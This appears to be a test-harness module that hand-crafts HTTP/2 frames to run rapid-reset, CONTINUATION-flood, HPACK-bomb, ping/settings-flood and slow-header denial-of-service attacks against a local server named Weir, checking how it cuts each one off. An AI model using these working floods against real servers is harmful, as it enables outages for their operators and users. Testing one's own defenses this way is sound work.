"""HTTP/2 as no library would speak it (F59): frames by hand, and the attacks made of them.

An [`Attack`] says what one connection sends: `first` once, then `more(n)` again and again until
Weir ends the connection or the caller of [`assault`] has seen enough.
"""

from __future__ import annotations

import select
import socket
import ssl
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass, field

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, PADDED = 0x1, 0x4, 0x8
HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE = 1, 4
PATH = "/v1/chat/completions"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def settings(values: dict[int, int] | None = None) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *each) for each in (values or {}).items()))


def window(stream: int, more: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", more))


def reset(stream: int) -> bytes:
    return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def integer(value: int, bits: int, first: int = 0) -> bytes:
    """An HPACK integer (RFC 7541, section 5.1)."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


def literal(name: str, value: str, indexed: bool = False) -> bytes:
    """A field spelled out; `indexed` puts it into the dynamic table as well."""
    text = [integer(len(part), 7) + part.encode() for part in (name, value)]
    return (b"\x40" if indexed else b"\x00") + b"".join(text)


def head(fields: list[tuple[str, str]] = (), path: str = PATH, method: str = "POST") -> bytes:
    """The header block of a request."""
    pseudo = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "w")]
    return b"".join(literal(*each) for each in [*pseudo, *fields])


def stream(n: int) -> int:
    """Number of a caller's n-th stream."""
    return 2 * n + 1


class Wire:
    """One connection, over TLS when there is a context; knows how and when Weir ended it."""

    def __init__(self, port: int, context: ssl.SSLContext | None = None,
                 values: dict[int, int] | None = None, opening: bytes | None = None) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if context:
            self.sock = context.wrap_socket(self.sock, server_hostname="localhost")
        self.sock.setblocking(False)
        self.began = time.monotonic()
        self.sent = 0
        self.ended = ""
        """goaway <code> | closed | reset; empty while it is open"""
        self.after = 0.0
        """Seconds from the connect to the end."""
        self.received: dict[int, int] = {}
        """Frames by type."""
        self._buffer = b""
        self.push(PREFACE + settings(values) if opening is None else opening)

    def close(self) -> None:
        self.sock.close()

    def _end(self, how: str) -> None:
        if not self.after:
            self.after = time.monotonic() - self.began
        self.ended = self.ended or how

    @property
    def open(self) -> bool:
        return not self.after

    def push(self, data: bytes, patience: float = 2.0) -> bool:
        """Sends and reads what comes meanwhile. False once Weir has closed, or takes nothing."""
        rest = memoryview(data)
        until = time.monotonic() + patience
        while rest and self.open and time.monotonic() < until:
            try:
                count = self.sock.send(rest)
                self.sent += count
                rest = rest[count:]
                until = time.monotonic() + patience
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                select.select([self.sock], [self.sock], [], 0.05)
            except (ssl.SSLError, OSError) as error:
                self._end("reset" if isinstance(error, ConnectionError) else "closed")
            self.drain()
        return self.open and not rest

    def drain(self, wait: float = 0.0) -> None:
        """Reads all that is there, or comes within `wait` seconds."""
        until = time.monotonic() + wait
        while self.open:
            try:
                data = self.sock.recv(65536)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                left = until - time.monotonic()
                if left <= 0:
                    return
                select.select([self.sock], [], [], left)
                continue
            except (ssl.SSLError, OSError):
                return self._end("reset")
            if not data:
                return self._end("closed")
            self._frames(data)

    def _frames(self, data: bytes) -> None:
        self._buffer += data
        while len(self._buffer) >= 9:
            length, kind = int.from_bytes(self._buffer[:3]), self._buffer[3]
            if len(self._buffer) < 9 + length:
                return
            payload, self._buffer = self._buffer[9 : 9 + length], self._buffer[9 + length :]
            self.received[kind] = self.received.get(kind, 0) + 1
            if kind == GOAWAY:
                self.ended = self.ended or f"goaway {int.from_bytes(payload[4:8])}"

    def until_ended(self, seconds: float) -> bool:
        """Waits; whether Weir has closed."""
        self.drain(seconds)
        return not self.open


@dataclass
class Attack:
    """What one connection of an attacker sends."""

    name: str
    more: Callable[[int], bytes] | None = None
    first: bytes = b""
    settings: dict[int, int] = field(default_factory=dict)
    opening: bytes | None = None
    """In place of preface and settings."""
    cut: str = ""
    """Label of weir_h2_abuse_total that its end is counted under; empty if it may go on, bounded."""
    library: bool = False
    """The HTTP/2 implementation itself ends it, or may do so first."""


def each(count: int, make: Callable[[int], bytes]) -> Callable[[int], bytes]:
    """Batches of `count` numbered things."""
    return lambda n: b"".join(make(i) for i in range(n * count, (n + 1) * count))


def request(n: int, fields: list[tuple[str, str]] = (), end: bool = True) -> bytes:
    """A whole head on the n-th stream."""
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream(n), head(fields))


BIG = 4_000
# One entry as large as the dynamic table takes, then a byte for each time it is named again.
BOMB = head() + literal("x-bomb", "b" * BIG, indexed=True)
AGAIN = b"\xbe"
# Static entry 15, accept-charset with no value: 46 of the list's bytes for one on the wire.
TINY = b"\x8f"
LIMIT = head() + b"".join(literal(f"x-{n}", "v" * 900) for n in range(16))


def attacks(key: str) -> list[Attack]:
    """Every attack of F59, and some of its kin. `key` belongs to a caller."""
    bearer = [("authorization", f"Bearer {key}")]
    return [
        Attack("rapid reset", each(50, lambda n: request(n) + reset(stream(n))), cut="reset", library=True),
        Attack("rapid reset, with a key",
               each(50, lambda n: request(n, bearer, end=False) + reset(stream(n))), cut="reset", library=True),
        Attack("made you reset: window of zero",
               each(50, lambda n: request(n, end=False) + window(stream(n), 0)), library=True),
        Attack("made you reset: data after the end",
               each(50, lambda n: request(n) + frame(DATA, 0, stream(n), b"x")), library=True),
        Attack("made you reset: malformed heads",
               each(50, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, stream(n),
                                        head() + literal("Upper", "v"))), library=True),
        Attack("continuation flood", each(50, lambda n: frame(CONTINUATION, 0, 1, literal(f"x-{n}", "v"))),
               frame(HEADERS, 0, 1, head()), cut="continuation"),
        Attack("continuation flood, empty", each(50, lambda n: frame(CONTINUATION, 0, 1)),
               frame(HEADERS, 0, 1, head()), cut="continuation"),
        Attack("continuation flood, 16 KiB frames",
               lambda n: frame(CONTINUATION, 0, 1, literal(f"x-{n}", "v" * 16_000)),
               frame(HEADERS, 0, 1, head()), cut="continuation", library=True),
        Attack("settings flood", each(100, lambda n: settings({INITIAL_WINDOW_SIZE: 65_535 - n % 2})),
               cut="settings"),
        Attack("ping flood", each(100, lambda n: frame(PING, 0, 0, struct.pack(">Q", n))), cut="ping"),
        Attack("empty data", each(100, lambda n: frame(DATA, 0, 1)), request(0, bearer, end=False),
               cut="empty_data", library=True),
        Attack("data of one byte", each(100, lambda n: frame(DATA, 0, 1, b" ")),
               request(0, bearer, end=False), library=True),
        Attack("priority flood", each(100, lambda n: frame(PRIORITY, 0, stream(n), struct.pack(">IB", 0, 1))),
               cut="other"),
        Attack("unknown frames", each(100, lambda n: frame(0xEE, 0, 0, b"?")), cut="other"),
        Attack("window updates", each(100, lambda n: window(0, 1)), cut="window_update"),
        Attack("HPACK bomb, zero window, 100 streams",
               first=frame(HEADERS, END_HEADERS, 1, BOMB)
               + b"".join(frame(HEADERS, END_HEADERS, stream(n), head() + AGAIN * 3) for n in range(1, 100)),
               settings={INITIAL_WINDOW_SIZE: 0}),
        Attack("HPACK bomb, 4,000 references", each(1, lambda n: frame(
               HEADERS, END_HEADERS | END_STREAM, stream(n + 1), head() + AGAIN * 4_000)),
               frame(HEADERS, END_HEADERS | END_STREAM, 1, BOMB), library=True),
        Attack("fields of one byte, zero window, 100 streams",
               first=b"".join(frame(HEADERS, END_HEADERS, stream(n), head() + TINY * 340) for n in range(100)),
               settings={INITIAL_WINDOW_SIZE: 0}),
        Attack("heads at the limit, zero window, 100 streams",
               first=b"".join(frame(HEADERS, END_HEADERS, stream(n), LIMIT) for n in range(100)),
               settings={INITIAL_WINDOW_SIZE: 0}),
        Attack("small heads, zero window, 100 streams",
               first=b"".join(request(n, end=False) for n in range(100)), settings={INITIAL_WINDOW_SIZE: 0}),
        Attack("small heads, window of one, 100 streams",
               first=b"".join(request(n, end=False) for n in range(100)), settings={INITIAL_WINDOW_SIZE: 1}),
        Attack("models, zero window, 100 streams",
               first=b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream(n), head([], "/api/v1/models", "GET"))
                              for n in range(100)), settings={INITIAL_WINDOW_SIZE: 0}),
        Attack("half a head", first=frame(HEADERS, 0, 1, head()), cut="slow_head"),
        Attack("half a head, full of fields", first=frame(HEADERS, 0, 1, head() + TINY * 340), cut="slow_head"),
        Attack("half a frame", first=request(0)[:20], cut="slow_head"),
        Attack("half a preface", opening=PREFACE[:20]),
        Attack("nothing after the settings"),
    ]


@dataclass
class Assault:
    """What came of an attack on several connections."""

    sent: int
    seconds: float
    ended: dict[str, int]
    """Connections by how they ended; `open` for those that had not."""
    after: float
    """Seconds until the last one that ended did."""


def assault(port: int, attack: Attack, connections: int = 1, most: int = 8 << 20, seconds: float = 5.0,
            context: ssl.SSLContext | None = None, hold: float = 0.0,
            held: Callable[[], None] = lambda: None) -> Assault:
    """Runs an attack until every connection ended, `most` bytes were sent or the time is over.

    Those still open are held for `hold` seconds more; `held` is called before they close.
    """
    began = time.monotonic()
    wires = [Wire(port, context, attack.settings, attack.opening) for _ in range(connections)]
    for wire in wires:
        wire.push(attack.first)
    n, going = 0, list(wires) if attack.more else []
    while going and sum(w.sent for w in wires) < most and time.monotonic() - began < seconds:
        going = [wire for wire in going if wire.push(attack.more(n))]
        n += 1
    until = time.monotonic() + hold
    while time.monotonic() < until and any(wire.open for wire in wires):
        for wire in wires:
            wire.drain()
        time.sleep(0.02)
    held()
    ended: dict[str, int] = {}
    for wire in wires:
        how = (wire.ended or "closed") if not wire.open else "open"
        ended[how] = ended.get(how, 0) + 1
        wire.close()
    after = max((wire.after for wire in wires), default=0.0)
    return Assault(sum(w.sent for w in wires), time.monotonic() - began, ended, after)
